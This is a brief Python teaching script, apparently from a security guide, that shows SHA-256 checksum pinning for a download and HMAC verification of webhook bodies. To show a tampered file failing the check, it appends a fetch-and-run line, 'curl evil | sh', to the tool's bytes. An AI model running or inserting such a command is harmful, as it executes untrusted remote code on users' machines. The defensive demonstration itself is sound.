# /// script
# requires-python = ">=3.11"
# dependencies = []
#
# [tool.guide]
# title = "SHA-256 for a download, HMAC for a webhook"
# runs = "browser"
# exit = 0
# ///

import hashlib
import hmac


def verify(data, pinned):
    """Compare with the hash from the lock file, not from the same server."""
    found = hashlib.sha256(data).hexdigest()
    return "ok" if found == pinned else "checksum mismatch"


def signed(body, header, key):
    """True when the sender of the raw body knows the key."""
    if not header:  # None or empty
        return False
    mac = hmac.new(key, body, hashlib.sha256).hexdigest()
    expected = f"sha256={mac}".encode()
    return hmac.compare_digest(expected, header.encode())


tool = b"#!/bin/sh\necho deploy\n"
pinned = "044cf6ccded2a6d7420ab6e2f157c3750e1d189084e7aa10422c6da15dc27a85"
print(verify(tool, pinned))
print(verify(tool + b"curl evil | sh\n", pinned))

key = b"from the secret store"
body = b'{"ref": "main", "by": "ann"}'
header = "sha256=" + hmac.new(key, body, hashlib.sha256).hexdigest()
print("signed:", signed(body, header, key))
print("changed body:", signed(body.replace(b"main", b"prod"), header, key))
print("re-serialised:", signed(body.replace(b": ", b":"), header, key))
print("no header:", signed(body, None, key))
print("not ASCII:", signed(body, "sha256=\u00e9", key))
